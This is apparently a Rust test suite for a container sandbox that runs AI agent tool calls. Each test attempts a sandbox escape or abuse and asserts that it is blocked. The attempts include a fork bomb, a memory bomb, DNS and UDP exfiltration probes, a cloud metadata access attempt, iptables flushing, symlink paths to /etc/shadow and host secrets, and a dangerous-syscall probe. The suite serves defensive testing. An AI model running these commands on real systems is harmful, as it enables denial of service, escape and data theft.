//! The attack suite: each attack runs as the sandbox user through the real DockerExecutor,
//! written the way an agent would write it, and asserts the outcome.

mod common;

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use common::{docker, TestPool};
use serde_json::{json, Value};
use tokio_util::sync::CancellationToken;
use zcbot_sandbox::exec::{Executor, ToolCall, ToolResult};
use zcbot_sandbox::UserId;

struct Lab {
    t: TestPool,
    ex: Executor,
}

impl Lab {
    async fn new(tag: &str) -> Lab {
        Lab::with(TestPool::new(tag)).await
    }

    async fn with(t: TestPool) -> Lab {
        let mut cfg = t.config();
        cfg.backend = zcbot_sandbox::config::Backend::Docker;
        let ex = Executor::from_config(cfg).await.expect("docker executor");
        Lab { t, ex }
    }

    fn user(&self, name: &str) -> UserId {
        self.t.user(name)
    }

    async fn run(
        &self,
        user: &UserId,
        tool: &str,
        args: Value,
    ) -> zcbot_sandbox::Result<ToolResult> {
        self.ex
            .run(
                user,
                ToolCall::parse(tool, args).unwrap(),
                &CancellationToken::new(),
            )
            .await
    }

    async fn sh(&self, user: &UserId, command: &str) -> ToolResult {
        self.run(user, "shell", json!({ "command": command, "timeout": 60 }))
            .await
            .unwrap()
    }

    async fn py(&self, user: &UserId, code: &str) -> ToolResult {
        self.run(user, "run_python", json!({ "code": code, "timeout": 60 }))
            .await
            .unwrap()
    }

    fn container(&self, user: &UserId) -> String {
        self.t.container_name(user)
    }
}

fn gateway(lab: &Lab) -> IpAddr {
    lab.ex
        .pool()
        .unwrap()
        .network()
        .gateway
        .as_deref()
        .expect("network gateway")
        .parse()
        .unwrap()
}

const CONNECT: &str = "import socket,sys\nhost,port=sys.argv[1],int(sys.argv[2])\ns=socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)\ns.settimeout(3)\ntry:\n    s.connect((host,port)); print('CONNECTED')\nexcept Exception as e:\n    print('blocked', type(e).__name__)\n";

async fn try_connect(lab: &Lab, user: &UserId, host: &str, port: u16) -> String {
    let code = CONNECT
        .replace("sys.argv[1]", &format!("{host:?}"))
        .replace("int(sys.argv[2])", &port.to_string());
    lab.py(user, &code).await.stdout
}

#[tokio::test]
async fn no_docker_socket_and_no_host_namespaces() {
    let lab = Lab::new("aisol").await;
    let u = lab.user("u");
    // `[ -e ]`, not ls: runsc's kernel answers EINVAL where Linux says ENOENT. /etc/passwd is the
    // positive control: the probe does see what exists.
    let r = lab.sh(&u, "for p in /etc/passwd /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do if [ -e $p ] || [ -L $p ]; then echo FOUND $p; fi; done; find / -name 'docker.sock' -o -name 'containerd.sock' 2>/dev/null | head; echo end").await;
    assert_eq!(
        r.stdout, "FOUND /etc/passwd\nend\n",
        "a runtime socket is visible (or the probe saw nothing): {}",
        r.stdout
    );
    for ns in ["pid", "net", "mnt", "ipc", "uts", "cgroup"] {
        let inside = lab
            .sh(&u, &format!("readlink /proc/self/ns/{ns}"))
            .await
            .stdout;
        let host = std::fs::read_link(format!("/proc/self/ns/{ns}")).unwrap();
        assert_ne!(
            inside.trim(),
            host.to_string_lossy(),
            "the sandbox shares the host's {ns} namespace"
        );
    }
}

#[tokio::test]
async fn no_capabilities_no_new_privileges_seccomp_on() {
    let lab = Lab::new("acaps").await;
    let u = lab.user("u");
    let r = lab
        .sh(&u, "grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status")
        .await
        .stdout;
    for want in [
        "CapInh:\t0000000000000000",
        "CapPrm:\t0000000000000000",
        "CapEff:\t0000000000000000",
    ] {
        assert!(r.contains(want), "{want} missing in:\n{r}");
    }
    // gVisor's /proc has no CapAmb line (nor NoNewPrivs): where it is, it is empty too.
    assert!(
        !r.contains("CapAmb") || r.contains("CapAmb:\t0000000000000000"),
        "{r}"
    );
    // PR_GET_NO_NEW_PRIVS (39) and PR_GET_SECCOMP (21, 2 = filter mode), from the process itself.
    let r = lab
        .py(
            &u,
            "import ctypes\nlibc=ctypes.CDLL(None)\nprint(libc.prctl(39,0,0,0,0), libc.prctl(21,0,0,0,0))",
        )
        .await
        .stdout;
    assert_eq!(r, "1 2\n", "no_new_privs and seccomp filter mode");
    // No setuid way up either.
    let r = lab
        .sh(&u, "su -c id root </dev/null 2>&1; sudo id 2>&1; echo end")
        .await
        .stdout;
    assert!(!r.contains("uid=0"), "{r}");
}

#[tokio::test]
async fn the_host_is_unreachable_through_the_gateway_and_its_primary_address_tcp_and_udp() {
    let lab = Lab::new("ahost").await;
    let u = lab.user("u");
    let mut targets = vec![gateway(&lab)];
    targets.extend(zcbot_sandbox::smoke::primary_address());
    for ip in targets {
        let (port, hits, task) = common::host_listener(ip).await;
        let out = try_connect(&lab, &u, &ip.to_string(), port).await;
        assert!(
            out.starts_with("blocked"),
            "TCP to the host at {ip}:{port}: {out}"
        );
        assert_eq!(
            hits.load(Ordering::SeqCst),
            0,
            "the host's listener at {ip} was reached"
        );
        task.abort();

        let udp = tokio::net::UdpSocket::bind(SocketAddr::new(ip, 0))
            .await
            .unwrap();
        let uport = udp.local_addr().unwrap().port();
        let code = format!("import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'exfil', ('{ip}', {uport})); print('sent')\nexcept Exception as e:\n    print('blocked', type(e).__name__)");
        let out = lab.py(&u, &code).await.stdout;
        let mut buf = [0u8; 64];
        let got = tokio::time::timeout(Duration::from_millis(500), udp.recv_from(&mut buf)).await;
        assert!(
            got.is_err(),
            "UDP from the sandbox reached the host at {ip} ({out})"
        );
    }
}

#[tokio::test]
async fn other_users_sandboxes_the_metadata_address_and_link_local_are_unreachable() {
    let lab = Lab::new("anet").await;
    let (a, b) = (lab.user("a"), lab.user("b"));
    let ip = docker(&[
        "inspect",
        "-f",
        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
        &lab.ex.pool().unwrap().ensure(&b).await.unwrap().name,
    ]);
    let server = lab.run(&b, "shell", json!({"command": "timeout 20 python3 -m http.server 8080 --bind 0.0.0.0 >/dev/null 2>&1", "timeout": 30}));
    let probes = async {
        // b's server is listening once b reaches it (Python starts slower under gVisor).
        let until = Instant::now() + Duration::from_secs(15);
        let own = loop {
            tokio::time::sleep(Duration::from_millis(500)).await;
            let own = try_connect(&lab, &b, &ip, 8080).await;
            if own.trim() == "CONNECTED" || Instant::now() > until {
                break own;
            }
        };
        let other = try_connect(&lab, &a, &ip, 8080).await;
        let meta = try_connect(&lab, &a, "169.254.169.254", 80).await;
        let ll = try_connect(&lab, &a, "fe80::1%eth0", 80).await;
        (own, other, meta, ll)
    };
    let (_, (own, other, meta, ll)) = tokio::join!(server, probes);
    assert_eq!(
        own.trim(),
        "CONNECTED",
        "b's own server answers b, so it is really listening"
    );
    assert!(other.starts_with("blocked"), "a reached b at {ip}: {other}");
    assert!(meta.starts_with("blocked"), "metadata address: {meta}");
    assert!(ll.starts_with("blocked"), "IPv6 link-local: {ll}");
}

#[tokio::test]
async fn dns_through_the_embedded_resolver_goes_nowhere() {
    let lab = Lab::new("adns").await;
    let (a, b) = (lab.user("a"), lab.user("b"));
    let other = lab.ex.pool().unwrap().ensure(&b).await.unwrap().name;
    let code = format!("import socket\nfor name in ['{other}', 'exfil-c2VjcmV0.example.com', 'localhost']:\n    try:\n        print(name, socket.getaddrinfo(name, 53)[0][4][0])\n    except Exception as e:\n        print(name, 'failed')");
    let out = lab.py(&a, &code).await.stdout;
    assert!(
        out.contains("localhost 127.0.0.1"),
        "local names still work: {out}"
    );
    if lab.ex.pool().unwrap().config().egress == zcbot_sandbox::config::Egress::Public {
        // The public mode reaches the internet, DNS included (scripts/test.sh runs this suite
        // in each mode): what a name of another sandbox may give away is an address in a
        // blocked range, which the test above shows unreachable.
        let line = out.lines().find(|l| l.starts_with(&other)).unwrap_or("");
        let answer = line.rsplit(' ').next().unwrap_or("");
        assert!(
            answer == "failed"
                || answer
                    .parse::<std::net::Ipv4Addr>()
                    .is_ok_and(|ip| ip.is_private()),
            "another user's sandbox resolves outside the blocked ranges: {out}"
        );
        return;
    }
    assert!(
        out.contains(&format!("{other} failed")),
        "another user's sandbox resolves: {out}"
    );
    assert!(out.contains("exfil-c2VjcmV0.example.com failed"), "{out}");
    let r = lab.py(&a, "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ntry:\n    s.sendto(b'\\x00'*12, ('127.0.0.11', 53)); s.recv(512); print('answered')\nexcept Exception as e:\n    print('blocked', type(e).__name__)").await.stdout;
    assert!(
        r.starts_with("blocked"),
        "the embedded resolver answered: {r}"
    );
}

#[tokio::test]
async fn raw_sockets_firewall_changes_unshare_mount_keyctl_are_refused() {
    let lab = Lab::new("apriv").await;
    let u = lab.user("u");
    // EPERM under runc (no CAP_NET_RAW), EAFNOSUPPORT under runsc; the UDP socket beside it is
    // the positive control.
    let r = lab.py(&u, "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('RAW OK')\nexcept OSError:\n    print('refused')").await.stdout;
    assert_eq!(r.trim(), "refused");
    let r = lab.sh(&u, "/usr/sbin/iptables -S 2>&1; /usr/sbin/iptables -P OUTPUT ACCEPT 2>&1; /usr/sbin/ip6tables -F 2>&1; /usr/sbin/iptables-restore </dev/null 2>&1; echo end").await.stdout;
    assert!(!r.contains("-P OUTPUT"), "the user listed the rules: {r}");
    // Our profile refuses the netfilter socket itself ("Operation not permitted"); the engine's
    // lets the kernel refuse ("Permission denied" / "must be root"); gVisor has no netfilter for
    // the sandbox ("Protocol not supported").
    assert!(
        r.matches("not permitted").count()
            + r.matches("denied").count()
            + r.matches("must be root").count()
            + r.matches("Protocol not supported").count()
            >= 3,
        "{r}"
    );
    let r = lab
        .sh(&u, "unshare -Ur id 2>&1; unshare -n true 2>&1; echo rc=$?")
        .await
        .stdout;
    assert!(
        !r.contains("uid=0") && !r.contains("rc=0"),
        "unshare worked: {r}"
    );
    let r = lab
        .sh(&u, "mount -t tmpfs none /tmp 2>&1; echo rc=$?")
        .await
        .stdout;
    assert!(!r.contains("rc=0"), "mount worked: {r}");
    let r = lab.py(&u, "import ctypes,ctypes.util,os\nlibc=ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)\nKEYCTL=250\nr=libc.syscall(KEYCTL, 0, -3, 0)\nprint(r, os.strerror(ctypes.get_errno()))").await.stdout;
    assert!(r.starts_with("-1"), "keyctl worked: {r}");
    // And the rules are still exactly what was installed; with the rules installed from the
    // host, not even root inside the container may read or change them.
    let container = lab.container(&u);
    let (_, rules, _) = common::netns_exec(&container, "iptables -S OUTPUT | head -1");
    assert_eq!(rules, "-P OUTPUT DROP");
    let (ok, _, _) = common::exec_as(&container, "0:0", "/usr/sbin/iptables -F OUTPUT");
    assert!(!ok, "root in the container flushed its rules");
}

#[tokio::test]
async fn the_root_is_read_only_and_tmp_is_capped() {
    let lab = Lab::new("afs").await;
    let u = lab.user("u");
    let r = lab.sh(&u, "for p in /etc/x /usr/bin/x /bin/x /root/x /var/x /x /usr/local/bin/zcbot-supervise; do echo hi > $p 2>/dev/null && echo WROTE $p; done; echo end").await.stdout;
    assert_eq!(r.trim(), "end", "{r}");
    let r = lab.sh(&u, "dd if=/dev/zero of=/tmp/flood bs=1M count=200 2>&1 | grep -c 'No space left'; du -m /tmp/flood | cut -f1").await;
    assert!(
        r.stdout.starts_with("1\n"),
        "the flood did not hit the cap: {:?}",
        r.stdout
    );
    let mb: u64 = r.stdout.lines().last().unwrap().trim().parse().unwrap();
    assert!(mb <= 64, "/tmp held {mb} MiB");
    // The sandbox and the next call still work; the host's disk was never touched.
    assert_eq!(lab.sh(&u, "rm /tmp/flood; echo ok").await.stdout, "ok\n");
}

#[tokio::test]
async fn a_fork_bomb_stays_inside_its_pids_limit_and_the_next_call_works() {
    let lab = Lab::new("afork").await;
    let u = lab.user("u");
    lab.sh(&u, "true").await;
    // runsc: 256 processes at 12 host tasks each, plus its kernel's own 64.
    let runsc = std::env::var("ZCBOT_SANDBOX_RUNTIME").as_deref() == Ok("runsc");
    let pids = docker(&[
        "inspect",
        "-f",
        "{{.HostConfig.PidsLimit}}",
        &lab.container(&u),
    ]);
    assert_eq!(pids, if runsc { "3136" } else { "256" });
    let started = Instant::now();
    let r = lab
        .run(
            &u,
            "shell",
            json!({"command": "bomb() { bomb | bomb & }; bomb; sleep 30", "timeout": 5}),
        )
        .await
        .unwrap();
    // Either the bomb starves its own shell of pids (it exits, and the supervisor kills the rest)
    // or it runs into the timeout: both end within the call. Under gVisor the limit counts its
    // kernel's host threads, and at the limit that kernel gives up: the whole sandbox (this
    // user's only) ends, and the call says so.
    assert!(
        r.timed_out
            || r.stderr.contains("Cannot fork")
            || (runsc && r.exit_code == Some(137) && r.stderr.contains("process limit")),
        "{r:?}"
    );
    assert!(started.elapsed() < Duration::from_secs(15));
    let r = lab.sh(&u, "echo alive; ps -u $(id -u) -o comm=").await;
    assert!(r.stdout.starts_with("alive\n"), "{r:?}");
    // What is not ours (the channel's helper, the call's supervisor) nor this check's ps: the
    // check's own shell, and nothing of the bomb.
    let left: Vec<&str> = r
        .stdout
        .lines()
        .skip(1)
        .map(str::trim)
        .filter(|c| !c.starts_with("zcbot-") && *c != "ps")
        .collect();
    assert!(left.len() <= 1, "processes of the bomb are left: {left:?}");
}

#[tokio::test]
async fn a_memory_bomb_is_killed_inside_its_sandbox_only() {
    let mut t = TestPool::new("amem");
    t.set("ZCBOT_SANDBOX_MEMORY", "128MiB");
    let lab = Lab::with(t).await;
    let (a, b) = (lab.user("a"), lab.user("b"));
    lab.sh(&b, "true").await;
    let bomb = lab.py(&a, "x = []\nwhile True:\n    x.append(bytearray(16 << 20))");
    let neighbour = async {
        tokio::time::sleep(Duration::from_millis(300)).await;
        lab.sh(&b, "sleep 1; echo fine").await
    };
    let (r, other) = tokio::join!(bomb, neighbour);
    assert_eq!(
        r.exit_code,
        Some(137),
        "the bomb should be OOM-killed: {r:?}"
    );
    assert_eq!(other.stdout, "fine\n", "another user's call was affected");
    assert_eq!(lab.sh(&a, "echo recovered").await.stdout, "recovered\n");
}

#[tokio::test]
async fn kill_minus_one_from_the_sandbox_is_survived() {
    let lab = Lab::new("akill").await;
    let u = lab.user("u");
    lab.sh(&u, "true").await;
    // Over per-call exec the call's own supervisor dies with it (exit 137); over the channel the
    // helper dies too (same uid) and the call fails saying so. Either way the sandbox serves on.
    match lab
        .run(
            &u,
            "shell",
            json!({"command": "sleep 100 & kill -9 -1; echo unreachable", "timeout": 60}),
        )
        .await
    {
        Ok(r) => assert!(!r.stdout.contains("unreachable"), "{r:?}"),
        Err(e) => assert_eq!(e.kind(), "channel_lost", "{e}"),
    }
    assert_eq!(
        lab.sh(&u, "echo next").await.stdout,
        "next\n",
        "the next call works"
    );
    let r = lab
        .sh(&u, "ps -u $(id -u) -o args= | grep -c '^sleep 100' || true")
        .await;
    assert_eq!(r.stdout.trim(), "0", "orphans survived");
}

#[tokio::test]
async fn an_escaped_process_that_ignores_sigterm_is_gone_after_the_timeout() {
    let lab = Lab::new("aescape").await;
    let u = lab.user("u");
    let r = lab.run(&u, "run_python", json!({"timeout": 1, "code": "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n        os.execvp('sleep', ['sleep', '9191'])\n    os._exit(0)\ntime.sleep(60)"})).await.unwrap();
    assert!(r.timed_out);
    let left = lab
        .sh(
            &u,
            "ps -u $(id -u) -o args= | grep -c '^sleep 9191' || true",
        )
        .await
        .stdout;
    assert_eq!(
        left.trim(),
        "0",
        "the escaped, TERM-ignoring process survived"
    );
}

/// The daemon's own memory under a flood, read off a `zcbot-sandbox serve` process of its own (a
/// test process's RSS would count the other tests), over both transports.
#[tokio::test]
async fn an_output_flood_does_not_grow_the_daemons_memory() {
    for transport in ["channel", "exec"] {
        let mut t = TestPool::new("aflood");
        t.set("ZCBOT_SANDBOX_BACKEND", "docker")
            .set("ZCBOT_LISTEN", "127.0.0.1:0")
            .set("ZCBOT_EXEC_TRANSPORT", transport);
        let user = t.user("u");
        let env = t.env();
        let (peak_growth_mib, stdout_len, truncated) = tokio::task::spawn_blocking(move || {
            use std::io::{Read, Write};
            let (mut child, addr) = common::spawn_daemon(env);
            let kib = |field: &str| -> u64 {
                std::fs::read_to_string(format!("/proc/{}/status", child.id()))
                    .unwrap()
                    .lines()
                    .find(|l| l.starts_with(field))
                    .and_then(|l| l.split_whitespace().nth(1))
                    .and_then(|v| v.parse().ok())
                    .unwrap()
            };
            let post = |command: &str| -> Value {
                let body = json!({ "command": command, "timeout": 60 }).to_string();
                let mut s = std::net::TcpStream::connect(&addr).unwrap();
                write!(s, "POST /v1/users/{user}/tools/shell HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len()).unwrap();
                let mut resp = String::new();
                s.read_to_string(&mut resp).unwrap();
                serde_json::from_str(resp.split("\r\n\r\n").nth(1).unwrap()).unwrap()
            };
            post("true");
            let before = kib("VmRSS:");
            let r = post("head -c 400000000 /dev/zero | tr '\\0' 'x'");
            let peak = kib("VmHWM:");
            child.kill().unwrap();
            child.wait().unwrap();
            (
                peak.saturating_sub(before) / 1024,
                r["stdout"].as_str().unwrap().len(),
                r["truncated"]["stdout"].as_bool().unwrap(),
            )
        })
        .await
        .unwrap();
        assert!(truncated, "{transport}");
        assert!(stdout_len <= (1 << 20) + 100, "{transport}: {stdout_len}");
        // 400 MB went through; the capture keeps 1 MiB per stream (JSON and copies included).
        assert!(
            peak_growth_mib < 24,
            "{transport}: the daemon's peak grew by {peak_growth_mib} MiB during a 400 MB flood"
        );
    }
}

#[tokio::test]
async fn users_never_see_each_others_files_or_tmp() {
    let lab = Lab::new("afiles").await;
    let (a, b) = (lab.user("a"), lab.user("b"));
    lab.sh(
        &a,
        "echo a-secret > /workspace/secret; echo a-tmp > /tmp/secret",
    )
    .await;
    let r = lab.sh(&b, "cat /workspace/secret /tmp/secret 2>&1; ls /workspace /tmp; find / -name secret 2>/dev/null; echo end").await;
    assert!(
        !r.stdout.contains("a-secret") && !r.stdout.contains("a-tmp"),
        "{}",
        r.stdout
    );
    for path in [
        format!("../{a}/secret"),
        format!("/workspace/../{a}/secret"),
    ] {
        let err = lab
            .run(&b, "read_file", json!({ "path": path }))
            .await
            .unwrap_err();
        assert_eq!(err.kind(), "path_refused", "{path}: {err}");
    }
    for crafted in [
        "../a",
        "a/../b",
        "A",
        "a.b",
        "zcbot-sandbox-x/..",
        "",
        "a\u{0}",
    ] {
        assert!(UserId::parse(crafted).is_err(), "{crafted:?} accepted");
    }
}

#[tokio::test]
async fn links_and_dots_planted_between_calls_never_lead_file_tools_out() {
    let lab = Lab::new("alinks").await;
    let u = lab.user("u");
    let outside = lab.t.root.join("host-only");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), "host secret").unwrap();
    lab.sh(&u, &format!("ln -s {0} out; ln -s {0}/secret s; ln -s / root; mkdir d; ln -s ../.. d/up; ln /etc/passwd hard 2>/dev/null; true", outside.display())).await;
    for (tool, args) in [
        ("read_file", json!({"path": "s"})),
        ("read_file", json!({"path": "out/secret"})),
        ("read_file", json!({"path": "root/etc/shadow"})),
        ("read_file", json!({"path": "d/up/secret"})),
        ("read_file", json!({"path": "hard"})),
        ("write_file", json!({"path": "out/planted", "content": "x"})),
        ("write_file", json!({"path": "s", "content": "overwritten"})),
        ("list_dir", json!({"path": "out"})),
        ("delete_path", json!({"path": "out/secret"})),
        ("delete_path", json!({"path": "../"})),
    ] {
        let res = lab.run(&u, tool, args.clone()).await;
        assert!(
            res.is_err(),
            "{tool} {args} was allowed: {:?}",
            res.map(|r| r.data)
        );
    }
    assert_eq!(
        std::fs::read_to_string(outside.join("secret")).unwrap(),
        "host secret"
    );
    assert!(!outside.join("planted").exists());
}

/// Tries, as the tenant, the system calls the profile refuses (each must fail with EPERM, from
/// seccomp, not with another error from the kernel) and the ones it keeps (positive controls in
/// the same process). Prints one JSON object: call -> "ok" or the errno's name.
const KERNEL_PROBE: &str = r#"
import ctypes, errno, json, os, socket, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
U = ctypes.c_ulong
buf = ctypes.create_string_buffer(4096)
addr = ctypes.addressof(buf)
def call(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(U(nr), *[U(a & 0xFFFFFFFFFFFFFFFF) for a in args])
    return 'ok' if r >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
def sock(*a):
    try:
        socket.socket(*a).close(); return 'ok'
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
out = {}
s = ctypes.create_string_buffer
out['io_uring_setup'] = call(425, 1, addr)
out['io_uring_enter'] = call(426, 0, 0, 0, 0, 0, 0)
out['io_uring_register'] = call(427, 0, 0, 0, 0)
out['memfd_secret'] = call(447, 0)
out['userfaultfd'] = call(323, 0)
out['bpf'] = call(321, 0, addr, 48)
out['perf_event_open'] = call(298, addr, 0, -1, -1, 0)
out['keyctl'] = call(250, 0, -3, 0)
out['add_key'] = call(248, ctypes.addressof(s(b'user')), ctypes.addressof(s(b'k')), addr, 1, -3)
out['request_key'] = call(249, ctypes.addressof(s(b'user')), ctypes.addressof(s(b'k')), 0, 0)
out['kexec_load'] = call(246, 0, 0, 0, 0)
out['init_module'] = call(175, addr, 16, ctypes.addressof(s(b'')))
out['finit_module'] = call(313, 0, ctypes.addressof(s(b'')), 0)
out['open_by_handle_at'] = call(304, -100, addr, 0)
out['mount'] = call(165, ctypes.addressof(s(b'none')), ctypes.addressof(s(b'/tmp')), ctypes.addressof(s(b'tmpfs')), 0, 0)
out['umount2'] = call(166, ctypes.addressof(s(b'/tmp')), 0)
out['pivot_root'] = call(155, ctypes.addressof(s(b'/tmp')), ctypes.addressof(s(b'/tmp')))
out['open_tree'] = call(428, -100, ctypes.addressof(s(b'/tmp')), 1)
out['move_mount'] = call(429, -100, ctypes.addressof(s(b'/tmp')), -100, ctypes.addressof(s(b'/tmp')), 0)
out['fsopen'] = call(430, ctypes.addressof(s(b'tmpfs')), 0)
out['setns'] = call(308, os.open('/proc/self/ns/net', os.O_RDONLY), 0)
out['unshare(CLONE_NEWUSER)'] = call(272, 0x10000000)
out['unshare(CLONE_NEWNET)'] = call(272, 0x40000000)
r = libc.syscall(U(56), U(0x10000000 | 17), U(0), U(0), U(0), U(0))
if r == 0:
    os._exit(0)
out['clone(CLONE_NEWUSER)'] = 'ok' if r > 0 else errno.errorcode.get(ctypes.get_errno())
out['personality(PER_LINUX32)'] = call(135, 8)
out['process_vm_readv'] = call(310, os.getpid(), addr, 1, addr, 1, 0)
out['syslog'] = call(103, 3, addr, 16)
out['socket(AF_VSOCK)'] = sock(40, socket.SOCK_STREAM)
out['socket(AF_INET, SCTP)'] = sock(socket.AF_INET, socket.SOCK_STREAM, 132)
child = os.fork()
if child == 0:
    import time; time.sleep(30); os._exit(0)
out['ptrace(ATTACH)'] = call(101, 16, child, 0, 0)
os.kill(child, 9); os.waitpid(child, 0)
# Positive controls: what a program needs keeps working.
out['control: unshare(0)'] = call(272, 0)
out['control: personality(query)'] = 'ok' if call(135, 0xFFFFFFFF) != 'EPERM' else 'EPERM'
out['control: tcp socket'] = sock(socket.AF_INET, socket.SOCK_STREAM)
out['control: route netlink'] = sock(socket.AF_NETLINK, socket.SOCK_RAW, 0)
t = threading.Thread(target=lambda: None); t.start(); t.join()
out['control: thread'] = 'ok'
p = os.fork()
if p == 0:
    os._exit(0)
os.waitpid(p, 0)
out['control: fork'] = 'ok'
r, w = os.pipe()
child = os.fork()
if child == 0:
    # PTRACE_TRACEME: a child asking its parent to trace it (how strace starts a program).
    os.write(w, call(101, 0, 0, 0, 0).encode()); os._exit(0)
os.waitpid(child, 0)
out['control: ptrace(TRACEME)'] = os.read(r, 16).decode()
print(json.dumps(out))
"#;

async fn kernel_probe(lab: &Lab, user: &UserId) -> serde_json::Map<String, Value> {
    const {
        assert!(
            cfg!(target_arch = "x86_64"),
            "the probe's system call numbers are x86_64's"
        )
    };
    let r = lab.py(user, KERNEL_PROBE).await;
    let parsed: Value = serde_json::from_str(r.stdout.trim())
        .unwrap_or_else(|e| panic!("probe output is not JSON ({e}): {r:?}"));
    parsed.as_object().unwrap().clone()
}

#[tokio::test]
async fn the_kernel_surface_is_the_profiles_io_uring_and_namespaces_refused_with_eperm() {
    let lab = Lab::new("akern").await;
    let u = lab.user("u");
    let out = kernel_probe(&lab, &u).await;
    let runsc = std::env::var("ZCBOT_SANDBOX_RUNTIME").as_deref() == Ok("runsc");
    for (call, answer) in &out {
        let want = if call.starts_with("control:") {
            "ok"
        } else if runsc && call.starts_with("socket(") {
            // gVisor's kernel has no SCTP or vsock at all.
            "EAFNOSUPPORT"
        } else {
            "EPERM"
        };
        assert_eq!(answer, want, "{call}: {out:?}");
    }
    assert!(out.len() > 35, "the probe stopped early: {out:?}");
}

/// The positive control of the test above: under the engine's profile (runc only: runsc refuses
/// that combination) the same probe gets through where ours refuses, so the EPERMs above come
/// from our profile and not from a broken probe.
#[tokio::test]
async fn under_the_engines_profile_the_same_probe_gets_io_uring_and_ptrace_attach() {
    if std::env::var("ZCBOT_SANDBOX_RUNTIME").as_deref() == Ok("runsc") {
        // Under runsc ZCBOT_SECCOMP=default is refused at startup (config tests show it); the
        // runc run of this suite carries the control.
        let mut t = TestPool::new("akdef");
        t.set("ZCBOT_SECCOMP", "default");
        let err = zcbot_sandbox::Config::from_lookup(|k| t.vars.get(k).cloned()).unwrap_err();
        assert!(err.to_string().contains("ZCBOT_SECCOMP"), "{err}");
        return;
    }
    let mut t = TestPool::new("akdef");
    t.set("ZCBOT_SECCOMP", "default");
    let lab = Lab::with(t).await;
    let u = lab.user("u");
    let out = kernel_probe(&lab, &u).await;
    for call in [
        "io_uring_setup",
        "memfd_secret",
        "ptrace(ATTACH)",
        "socket(AF_VSOCK)",
    ] {
        assert_eq!(
            out[call], "ok",
            "{call} under the engine's profile: {out:?}"
        );
    }
}
